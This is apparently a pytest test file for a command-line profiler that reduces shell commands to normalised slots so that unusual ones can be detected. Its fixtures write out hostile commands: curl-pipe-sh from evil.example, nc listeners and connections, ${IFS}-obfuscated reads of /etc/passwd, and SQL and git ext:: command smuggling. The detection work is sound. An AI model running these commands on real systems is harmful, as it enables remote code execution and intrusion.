# SPDX-License-Identifier: Apache-2.0
"""Normal forms and slots of whole command lines."""

import re
import time

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from habitus_profiler.forms import MAX_TEXT, _digest, _form_of, form_of, sign_of
from habitus_profiler.habits import _segments, segments
from habitus_profiler.shell import split
from habitus_profiler.slots import Slot, SlotBook
from habitus_profiler.standins import stood_in_packed
from habitus_profiler.tokens import typed

hostile = st.text(st.characters(), max_size=80) | st.sampled_from(
    ["-c", "sh", "$(", "`", "'", '"', "|", "http://[", "/", "//", "-", "--", "=", "<any>", "\x00", "a" * 5000]
)


def slots(*argv):
    return {f"{slot.kind}:{slot.value}" for slot in form_of(argv).slots}


def test_ids_and_times_do_not_change_the_form():
    """Two runs that differ in nothing but their ids have one form."""
    first = form_of(("tar", "czf", "/backup/db-20261124T1502.tar.gz", "/data"))
    assert first == form_of(("tar", "czf", "/backup/db-20270101T0000.tar.gz", "/data"))


def test_programs_of_the_image_are_known_by_their_name_and_others_by_their_place():
    """`/usr/bin/java` and `java` are one; `./java` and `/tmp/java` are others."""
    assert form_of(("/usr/bin/java", "-version")) == form_of(("java", "-version"))
    assert "program:in ./" in slots("./java")
    assert "program:in /tmp" in slots("/tmp/java")


def test_shell_text_gives_its_commands_operators_and_hosts():
    """`curl http://x | sh` is no opaque text."""
    found = slots("sh", "-c", "curl -o /tmp/y http://evil.example/x.sh | sh")
    assert {"command:curl", "command:sh", "operator:|", "remote:evil.example", "fetch:sh"} <= found
    assert {"tuned:curl --output", "path:/tmp", "scratch:curl --output"} <= found


def test_shells_behind_wrappers_and_inside_shells_are_read_too():
    """No nesting hides a command."""
    assert "command:id" in slots("timeout", "5", "sh", "-c", "bash -c 'id'")
    assert "command:id" in slots("env", "A=1", "sh", "-lc", "$(id)")
    assert "command:rm" in slots("find", "/data", "-exec", "rm", "{}", "+")
    assert "command:id" in slots("su", "app", "-c", "id")


def test_a_redirection_is_a_slot_by_its_target_and_to_dev_null_none():
    """Where the output goes is what matters."""
    assert "operator:> /dev/null" not in slots("sh", "-c", "ls > /dev/null 2>&1")
    assert "operator:> /tmp" in slots("sh", "-c", "ls > /tmp/x")


def test_inline_code_gives_its_words():
    """`python -c` and its like are known by their words only."""
    assert {"code:socket", "code:connect"} <= slots("python3", "-c", "import socket; socket.connect()")
    assert "code:exec" in slots("node", "-e", "require('child_process').exec('id')")


def test_sql_gives_its_verbs():
    """A query that runs a program differs from one that counts."""
    assert "sql:program" in slots("psql", "-c", "COPY t FROM PROGRAM 'id'")
    assert "sql:select" in slots("psql", "-c", "SELECT 1")


def test_values_of_code_loading_flags_are_slots():
    """`--require`, `-m`, `-jar` are known by their value."""
    assert "load:/tmp/evil.js" in slots("node", "--require", "/tmp/evil.js", "a.js")
    assert "load:http.server" in slots("python3", "-m", "http.server")
    assert "load:exec=sh" in slots("tar", "--checkpoint-action=exec=sh")


def test_what_stands_behind_the_limits_still_counts():
    """Padding neither raises nor makes two forms one."""
    padding = ["x" * 3000] * 3
    assert form_of((*padding, "a")).text != form_of((*padding, "b")).text
    assert any(slot.kind == "overlong" for slot in form_of(tuple("a" * 600)).slots)
    assert len(form_of((*padding, "a")).text) < MAX_TEXT + 32


def test_neighbours_under_a_domain_are_known_unless_strangers_share_it():
    """Two hosts of `shop.svc` make a third one known; two of `github.io` do not."""
    book = SlotBook()
    for host in ("a.shop.svc", "b.shop.svc", "a.github.io", "b.github.io"):
        book.learn(Slot("remote", host))
    assert book.knows(Slot("remote", "c.shop.svc"))
    assert not book.knows(Slot("remote", "c.github.io"))
    assert not book.knows(Slot("remote", "shop.svc.evil.example"))


def test_counters_in_a_host_name_are_typed_but_not_in_the_domain_that_is_owned():
    """`redis-0.redis` is any of its kind; `cdn-12.com` is only itself."""
    assert "remote:redis-<number>" in slots("redis-cli", "-h", "redis-0")
    assert "remote:web-<number>.shop.com" in slots("curl", "http://web-17.shop.com/")
    assert "remote:cdn-12.com" in slots("curl", "http://cdn-12.com/")
    assert "remote:3405803785" in slots("curl", "http://3405803785/")


def test_a_bare_host_of_a_program_that_talks_is_a_remote():
    """`nc evil 4444` has no dot and no scheme."""
    assert "remote:evil" in slots("nc", "evil", "4444")
    assert "remote:evil" in slots("sh", "-c", "curl evil | sh")


def test_an_expanded_word_hides_no_path():
    """`${IFS}` instead of white space does not help."""
    assert "path:/etc/passwd" in slots("sh", "-c", "${IFS}cat${IFS}/etc/passwd")


def test_a_cluster_of_known_short_flags_is_known():
    """`-xf` after `-xzf`, but not `-P`."""
    book = SlotBook([("flag", "-xzf")])
    assert book.knows(Slot("flag", "-xf"))
    assert not book.knows(Slot("flag", "-xP"))
    assert not book.knows(Slot("flag", "--checkpoint"))
    assert book.knows(Slot("flag", "--verbose"))


def test_listening_on_every_address_counts_by_the_flag_that_says_so():
    """`--bind 0.0.0.0` says nothing of `--stats 0.0.0.0`; a port alone means every address."""
    assert "listen:--bind" in slots("web", "--bind", "0.0.0.0:80")
    assert "listen:--stats" in slots("web", "--stats=0.0.0.0:9191")
    assert "listen:-a" in slots("web", "-a", ":8080")
    book = SlotBook([("remote", "any"), ("listen", "--bind")])
    assert not book.knows(Slot("listen", "--stats"))
    assert SlotBook([("remote", "any")]).knows(Slot("listen", "--stats"))  # learned before it was told


def test_a_program_that_is_only_asked_about_itself_is_idle():
    """`--version` needs no vector, beside anything else it does."""
    assert form_of(("haproxy", "-vv")).idle
    assert not form_of(("haproxy",)).idle
    assert not form_of(("haproxy", "-vv", "-f", "x")).idle


def test_a_value_between_a_flag_and_a_path_decides_what_is_mild():
    """Switches are told from flags with values, and clusters of letters from words."""
    assert "tuned:--vacuum" in slots("app", "--vacuum")
    assert "tuned:--enable-source-maps" in slots("app", "--enable-source-maps", "/app/a.js")
    assert "flag:--pythonpath" in slots("app", "--pythonpath", "/dev/shm")
    assert "flag:-t" in slots("bash", "-t")
    assert "flag:--node-options" in slots("npm", "--node-options", "--require /tmp/x.js")
    assert "flag:-lvnp" in slots("nc", "-lvnp", "4444")


def test_what_code_only_says_or_looks_at_is_no_slot_unless_it_calls_by_name():
    """A literal is data, `getattr(os, 'system')` is not."""
    assert "code:perform_now" in slots("ruby", "-e", "Job.perform_now('orders')")
    assert "code:orders" not in slots("ruby", "-e", "Job.perform_now('orders')")
    assert "code:length" not in slots("node", "-e", "print(a.length)")
    assert "code:id" in slots("python3", "-c", "os.system('id')")
    assert "code:environ" in slots("python3", "-c", "print(os.environ)")


def test_telling_words_count_wherever_they_stand():
    """In an argument, a value, a text and beside another word; not in a flag's name that was learned."""
    assert "word:admin" in slots("mongodump", "--uri=mongodb://db.shop.svc/admin")
    assert "word:credentials" in slots("rails", "runner", "puts Rails.application.credentials.to_yaml")
    assert "word:user add" in slots("mc", "user", "add", "x")
    assert "who:postgres" in slots("pg_dump", "-U", "postgres")
    assert "entry:evil.wsgi:app" in slots("gunicorn", "evil.wsgi:app")


def test_a_list_of_urls_gives_each_host_and_a_setting_in_a_text_too():
    """No host hides behind a comma or inside `Server=…;…`."""
    assert {"remote:a.example", "remote:b.example"} <= slots("x", "--to=http://a.example,http://b.example")
    assert "remote:db.example" in slots("x", "--C:Default=Server=db.example;User Id=sa")
    assert "scheme:msl" in slots("convert", "msl:/tmp/x.msl")
    assert "scheme:ext" in slots("git", "clone", "ext::sh -c id")


@pytest.mark.parametrize(
    "piece", ["'", "$(", "a=", "--a=", "-", "/", ":", ",", "add_", "user ", "a.", "[", "=x;"]
)
@pytest.mark.parametrize("command", [["x"], ["sh", "-c"], ["python3", "-c"]])
def test_a_megabyte_of_anything_is_read_in_bounded_time(command, piece):
    """Seconds of processor time at most, where a quadratic reading would take minutes."""
    begun = time.process_time()
    form_of((*command, piece * (1_000_000 // len(piece))))
    form_of((*command, *[piece * (4000 // len(piece))] * 128))
    assert time.process_time() - begun < 10


@given(st.lists(hostile, max_size=12))
def test_hostile_arguments_never_raise(argv):
    """Whatever an attacker writes has a form, and the same one each time."""
    assert form_of(tuple(argv)) == form_of(tuple(argv))


@given(hostile)
def test_hostile_text_never_raises(text):
    """Nor do the parts below."""
    typed(text)
    split(text)
    form_of(("sh", "-c", text))


@given(st.text(max_size=60))
def test_typing_is_stable(text):
    """A normal text has no volatile part left that another round would replace by other slots."""
    assert typed(text) == typed(text)


ids = st.sampled_from([8, 9, 12, 16, 31, 32, 40, 64]).flatmap(
    lambda size: st.text("0123456789abcdef", min_size=size, max_size=size)
) | st.uuids().map(str)
around = st.sampled_from(
    ["", "/", "-", "--", "-o", "a=", "--x=", ".", ":", "@", "/etc/", "/tmp/", "/data/img-", "/proc/", "http://",
     "~/", ".jpg", ".com", ".sh", "/x", ":80", "?id=", ",", "tmp.", "0x", "$", "$(", " ", "e+", "1.5", "'",
     "(", "_", "\\", "Z", "2026-11-24-", "=", "+=", "://", "|"]
)  # fmt: skip
sizes = st.sampled_from([3, 4, 5, 6, 8, 9, 10, 12, 13, 14, 20, 70])
numbers = (
    sizes.flatmap(lambda size: st.text("0123456789", min_size=size, max_size=size))
    | sizes.flatmap(lambda size: st.text("245789", min_size=size, max_size=size))
    | st.sampled_from(["20261124", "2026", "11", "24", "1764000000", "150213", "7391", "73918462", "1"])
)
generated = st.text("bcdfghjklmnpqrstvwxz2456789", min_size=5, max_size=10)
worded = st.lists(around | ids, min_size=1, max_size=6).map("".join)
commands = st.sampled_from(
    [
        ["java", "-jar"],
        ["sh", "-c"],
        ["node", "-e"],
        ["curl", "-o"],
        ["redis-cli", "-h"],
        ["timeout", "5"],
        ["chmod"],
    ]
)


@settings(max_examples=300)
@given(commands, st.lists(worded, min_size=1, max_size=3))
def test_a_form_read_through_a_stand_in_is_the_form(command, words):
    """What is kept for one id is what reading any other id gives."""
    argv = (*command, *words)
    assert form_of(argv) == _form_of(argv)


@settings(max_examples=1000)
@given(st.lists(around | ids | numbers | generated, min_size=1, max_size=7).map("".join))
def test_a_path_read_through_a_stand_in_is_the_path(path):
    """The same of files, whose numbers are stood in for, too."""
    assert segments("/" + path) == _segments("/" + path)


@settings(max_examples=1000)
@given(commands, st.lists(st.lists(around | ids | generated, max_size=6).map("".join), max_size=4))
def test_a_stand_in_within_msgpack_leaves_it_msgpack(command, words):
    """The words keep their lengths, and nothing but digits and letters of ids is another."""
    argv = [*command, *words]
    stood = msgspec.msgpack.decode(stood_in_packed(msgspec.msgpack.encode(argv)))
    unhex = re.compile("[^0-9a-f]")
    assert [(len(word), unhex.findall(word)) for word in stood] == [
        (len(word), unhex.findall(word)) for word in argv
    ]


@settings(max_examples=1000)
@given(commands, st.lists(worded, min_size=1, max_size=3))
def test_the_sign_of_a_command_line_is_that_of_its_form(command, words):
    """Whatever ids, quotes and lengths it carries, and through whichever stand-in it was read."""
    argv = (*command, *words)
    assert sign_of(msgspec.msgpack.encode(argv)) == _digest(_form_of(argv))


@pytest.mark.parametrize("length", [*range(8, 31), *range(32, 130), 200, 255, 256, 300])
@pytest.mark.parametrize("start", ["", "-", "a-", "x=", ".", "--x="])
def test_the_length_of_a_word_is_not_read_as_part_of_it(length, start):
    """In msgpack it stands right before the word and may look like a letter, a digit, a dash or a dot."""
    for found in ("a7f3a9c1200ab12e", "7" * 9, "123e4567-e89b-12d3-a456-426614174000"):
        word = f"{start}{found}"
        argv = ("job", f"{word}{'/' + 'y' * (length - len(word) - 1) if length > len(word) else ''}")
        [_, fixed] = msgspec.msgpack.decode(stood_in_packed(msgspec.msgpack.encode(argv)))
        assert len(fixed) == len(argv[1])
        assert sign_of(msgspec.msgpack.encode(argv)) == _digest(_form_of(argv))


def test_an_id_that_somebody_owns_is_read_itself():
    """Two random domains are two remotes, two random names below /etc two paths."""
    assert slots("curl", "http://deadbee1.com/") != slots("curl", "http://deadbee2.com/")
    assert slots("cat", "/etc/deadbee1") != slots("cat", "/etc/deadbee2")
    assert form_of(("cat", "/data/deadbee1")) == form_of(("cat", "/data/deadbee2"))
    assert form_of(("a\0b",)) != form_of(("a", "b"))
